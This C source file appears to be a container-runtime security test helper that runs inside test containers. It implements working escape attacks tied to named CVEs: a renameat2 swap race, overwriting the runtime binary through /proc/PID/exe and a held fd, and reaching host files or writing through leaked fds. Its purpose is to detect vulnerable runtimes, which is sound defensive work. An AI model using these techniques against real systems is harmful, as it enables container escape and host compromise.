/* sec-attacker: the container side of conformance/security, compiled statically by the
 * harness and copied into every test rootfs as /bin/sec-attacker. Each mode is one attack;
 * what it achieved is written as lines to stdout or to OUT, for the host to judge.
 *
 *   sec-attacker exchange A B SECONDS
 *       swaps A and B with renameat2(RENAME_EXCHANGE) until SECONDS pass: the racing
 *       container that flips a directory and a symlink in a shared volume
 *       (CVE-2021-30465, CVE-2024-45310, CVE-2025-52565); prints the number of swaps.
 *   sec-attacker watch SECONDS OUT MARKER [exe|fds|all]
 *       attacks every process of the container that is not busybox or this program, that is
 *       the runtime's init while it sets up (create) or joins (exec): opens /proc/P/exe for
 *       writing, truncates it, holds an O_PATH fd of it and keeps reopening that for writing
 *       once the runtime is gone (CVE-2019-5736); opens each /proc/P/fd/N and, through a
 *       directory, walks `..` up to MARKER, a host path; appends to leaked files
 *       (CVE-2024-21626, CVE-2016-9962).
 *   sec-attacker self MARKER
 *       reports this process's own fds and cwd, and tries MARKER through `..` from the cwd
 *       and from every directory fd (CVE-2024-21626 as seen by the container process).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char payload[] = "#!/bin/sh\necho sec-attacker overwrote the runtime binary\n";
static int out_fd = 1;
/* The harness creates this file (SEC_STOP in the environment) to end a loop early. */
static const char *stop_file;

static int stopped(void) {
    return stop_file && access(stop_file, F_OK) == 0;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void report(const char *fmt, ...) {
    char line[4096];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    if (n < 0) return;
    if (n > (int)sizeof line - 2) n = sizeof line - 2;
    line[n++] = '\n';
    (void)!write(out_fd, line, n);
}

/* ----- exchange ----- */

static int exchange(const char *a, const char *b, double seconds) {
    double deadline = now() + seconds;
    unsigned long swaps = 0, failures = 0;
    int last_errno = 0;
    while (now() < deadline && !stopped()) {
        for (int i = 0; i < 512; i++) {
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) {
                swaps++;
            } else {
                failures++;
                last_errno = errno;
            }
        }
    }
    /* An even number of swaps leaves both names as they were. */
    if (swaps % 2) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    report("swaps %lu failures %lu last_errno %s", swaps, failures, last_errno ? strerror(last_errno) : "none");
    return swaps > 0 ? 0 : 1;
}

/* ----- shared: escaping through a directory fd ----- */

/* From a directory on the host, enough `..` reach the host's `/`; from one inside the
 * container they stop at the container's root, where MARKER does not exist. */
static int read_through(int dirfd, const char *marker, char *buf, size_t size) {
    char path[PATH_MAX];
    size_t used = 0;
    for (int i = 0; i < 40 && used + 3 < sizeof path; i++) {
        memcpy(path + used, "../", 3);
        used += 3;
    }
    snprintf(path + used, sizeof path - used, "%s", marker[0] == '/' ? marker + 1 : marker);
    int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, size - 1);
    close(fd);
    if (n < 0) return -1;
    buf[n] = 0;
    while (n > 0 && (buf[n - 1] == '\n' || buf[n - 1] == '\r')) buf[--n] = 0;
    return 0;
}

/* ----- watch ----- */

struct seen { char key[200]; };
static struct seen seen[8192];
static int nseen;

/* True the first time `key` is given: each finding is reported once. */
static int first_time(const char *fmt, ...) {
    char key[200];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(key, sizeof key, fmt, ap);
    va_end(ap);
    for (int i = 0; i < nseen; i++)
        if (strcmp(seen[i].key, key) == 0) return 0;
    if (nseen < (int)(sizeof seen / sizeof seen[0])) strcpy(seen[nseen++].key, key);
    return 1;
}

struct held { int fd; pid_t pid; int done; };
static struct held held[64];
static int nheld;

static struct stat self_exe, busybox_exe;

static int is_ours(const struct stat *st) {
    return (st->st_dev == self_exe.st_dev && st->st_ino == self_exe.st_ino) ||
           (st->st_dev == busybox_exe.st_dev && st->st_ino == busybox_exe.st_ino);
}

static void attack_exe(pid_t pid, const struct stat *st) {
    char path[64], link[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t ln = readlink(path, link, sizeof link - 1);
    link[ln > 0 ? ln : 0] = 0;
    if (first_time("target %d %lu", pid, (unsigned long)st->st_ino))
        report("target pid=%d exe=%s dev=%lu ino=%lu size=%ld", pid, link,
               (unsigned long)st->st_dev, (unsigned long)st->st_ino, (long)st->st_size);

    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
        ssize_t w = pwrite(fd, payload, sizeof payload - 1, 0);
        if (w > 0 && first_time("wrote %d", pid)) report("VULNERABLE open-wronly pid=%d wrote=%zd", pid, w);
        else if (first_time("wronly-write %d %d", pid, errno))
            report("open-wronly pid=%d opened, write errno=%s", pid, strerror(errno));
        close(fd);
    } else if (first_time("wronly %d %d", pid, errno)) {
        report("open-wronly pid=%d errno=%s", pid, strerror(errno));
    }
    /* One byte shorter: a sealed memfd refuses (F_SEAL_SHRINK), a read-only mount too. */
    if (st->st_size > 0 && truncate(path, st->st_size - 1) == 0) {
        if (first_time("truncated %d", pid)) report("VULNERABLE truncate pid=%d", pid);
    } else if (first_time("truncate %d %d", pid, errno)) {
        report("truncate pid=%d errno=%s", pid, strerror(errno));
    }
    if (nheld < (int)(sizeof held / sizeof held[0]) && first_time("hold %lu %lu", (unsigned long)st->st_dev, (unsigned long)st->st_ino)) {
        int p = open(path, O_PATH | O_CLOEXEC);
        if (p >= 0) {
            held[nheld].fd = p;
            held[nheld].pid = pid;
            held[nheld].done = 0;
            nheld++;
            report("holding pid=%d exe as fd %d", pid, p);
        } else {
            report("open-path pid=%d errno=%s", pid, strerror(errno));
        }
    }
}

/* The classic ending: once the runtime has left the binary (no ETXTBSY any more), reopen
 * the held fd for writing through /proc/self/fd. */
static void retry_held(void) {
    for (int i = 0; i < nheld; i++) {
        if (held[i].done) continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            ssize_t w = pwrite(fd, payload, sizeof payload - 1, 0);
            if (w > 0) {
                report("VULNERABLE reopen-held pid=%d wrote=%zd", held[i].pid, w);
                held[i].done = 1;
            } else if (first_time("held-write %d %d", i, errno)) {
                report("reopen-held pid=%d opened, write errno=%s", held[i].pid, strerror(errno));
            }
            close(fd);
        } else if (first_time("held %d %d", i, errno)) {
            report("reopen-held pid=%d errno=%s", held[i].pid, strerror(errno));
        }
    }
}

static void attack_fds(pid_t pid, const char *marker) {
    char dir[64], path[384], link[PATH_MAX], content[512];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    if (!d) {
        if (first_time("fddir %d %d", pid, errno)) report("fds pid=%d errno=%s", pid, strerror(errno));
        return;
    }
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        ssize_t ln = readlink(path, link, sizeof link - 1);
        link[ln > 0 ? ln : 0] = 0;
        int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC | O_NOCTTY);
        if (fd < 0) {
            if (first_time("fd %d %s %d", pid, e->d_name, errno))
                report("fd pid=%d n=%s link=%s open-errno=%s", pid, e->d_name, link, strerror(errno));
            continue;
        }
        struct stat st;
        fstat(fd, &st);
        /* stdio is the process's own (the container's); any other fd is the runtime's. */
        int n = atoi(e->d_name);
        if (first_time("fdok %d %s %lu", pid, e->d_name, (unsigned long)st.st_ino))
            report("%s pid=%d n=%s link=%s opened mode=%o dev=%lu ino=%lu", n > 2 ? "VULNERABLE fd" : "fd",
                   pid, e->d_name, link, st.st_mode & S_IFMT, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        if (S_ISDIR(st.st_mode) && read_through(fd, marker, content, sizeof content) == 0 &&
            first_time("fdread %d %s", pid, e->d_name))
            report("VULNERABLE host-read via pid=%d fd=%s: %s", pid, e->d_name, content);
        close(fd);
        if (S_ISREG(st.st_mode) && n > 2) {
            int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            if (w >= 0) {
                (void)!write(w, "sec-attacker wrote through a leaked fd\n", 39);
                if (first_time("fdwrite %d %s", pid, e->d_name))
                    report("VULNERABLE write via pid=%d fd=%s link=%s", pid, e->d_name, link);
                close(w);
            }
        }
    }
    closedir(d);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    int cwd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (cwd >= 0) {
        if (read_through(cwd, marker, content, sizeof content) == 0)
            report("VULNERABLE host-read via pid=%d cwd: %s", pid, content);
        close(cwd);
    }
}

/* Attacks pid when it runs something that is neither busybox nor us. */
static int attack_exes = 1, attack_fd_tables = 1;

static int attack_pid(long pid, const char *marker) {
    char path[64];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%ld/exe", pid);
    if (stat(path, &st) != 0) {
        /* A non-dumpable runtime process refuses us here (EACCES). */
        if (errno != ENOENT && first_time("exe %ld %d", pid, errno))
            report("exe pid=%ld errno=%s", pid, strerror(errno));
        return 0;
    }
    if (is_ours(&st)) return 0;
    if (attack_exes) attack_exe((pid_t)pid, &st);
    if (attack_fd_tables) attack_fds((pid_t)pid, marker);
    return 1;
}

static long last_pid(void) {
    char buf[32];
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return -1;
    buf[n] = 0;
    return atol(buf);
}

static int watch(double seconds, const char *out, const char *marker) {
    out_fd = open(out, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (out_fd < 0) { perror(out); return 2; }
    if (stat("/proc/self/exe", &self_exe) != 0 || stat("/bin/busybox", &busybox_exe) != 0) {
        report("error stat self/busybox: %s", strerror(errno));
        return 2;
    }
    pid_t me = getpid();
    unsigned long scans = 0, hits = 0;
    double deadline = now() + seconds;
    report("watching as pid %d", me);
    while (now() < deadline && !stopped()) {
        /* The runtime's next process gets the next pid of this pid namespace: poll the few
         * after the last one given out, which catches an exec's init within microseconds;
         * a full scan of /proc now and then catches everything else. */
        double until = now() + 0.05;
        while (now() < until) {
            long last = last_pid();
            for (long p = last - 2; last > 0 && p <= last + 2; p++)
                if (p > 0 && p != me) hits += attack_pid(p, marker);
        }
        DIR *d = opendir("/proc");
        if (!d) { report("error opendir /proc: %s", strerror(errno)); return 2; }
        struct dirent *e;
        while ((e = readdir(d))) {
            char *end;
            long pid = strtol(e->d_name, &end, 10);
            if (*end || pid <= 0 || pid == me) continue;
            hits += attack_pid(pid, marker);
        }
        closedir(d);
        retry_held();
        scans++;
    }
    retry_held();
    report("done scans=%lu target-hits=%lu held=%d", scans, hits, nheld);
    return 0;
}

/* ----- self ----- */

static int self(const char *marker) {
    char cwd[PATH_MAX], content[512];
    if (getcwd(cwd, sizeof cwd)) report("cwd %s", cwd);
    else report("cwd-error %s", strerror(errno));
    if (read_through(AT_FDCWD, marker, content, sizeof content) == 0)
        report("VULNERABLE host-read via cwd: %s", content);
    DIR *d = opendir("/proc/self/fd");
    if (!d) { report("error opendir /proc/self/fd: %s", strerror(errno)); return 2; }
    int own = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        int n = atoi(e->d_name);
        if (n == own) continue;
        char path[64], link[PATH_MAX];
        snprintf(path, sizeof path, "/proc/self/fd/%d", n);
        ssize_t ln = readlink(path, link, sizeof link - 1);
        link[ln > 0 ? ln : 0] = 0;
        struct stat st;
        if (fstat(n, &st) != 0) continue;
        report("fd %d %s mode=%o dev=%lu ino=%lu", n, link, st.st_mode & S_IFMT,
               (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        if (S_ISDIR(st.st_mode) && read_through(n, marker, content, sizeof content) == 0)
            report("VULNERABLE host-read via fd %d: %s", n, content);
    }
    closedir(d);
    return 0;
}

int main(int argc, char **argv) {
    stop_file = getenv("SEC_STOP");
    if (argc == 5 && strcmp(argv[1], "exchange") == 0) return exchange(argv[2], argv[3], atof(argv[4]));
    if ((argc == 5 || argc == 6) && strcmp(argv[1], "watch") == 0) {
        const char *what = argc == 6 ? argv[5] : "all";
        attack_exes = strcmp(what, "fds") != 0;
        attack_fd_tables = strcmp(what, "exe") != 0;
        return watch(atof(argv[2]), argv[3], argv[4]);
    }
    if (argc == 3 && strcmp(argv[1], "self") == 0) return self(argv[2]);
    fprintf(stderr, "usage: %s exchange A B SECONDS | watch SECONDS OUT MARKER [exe|fds|all] | self MARKER\n", argv[0]);
    return 2;
}
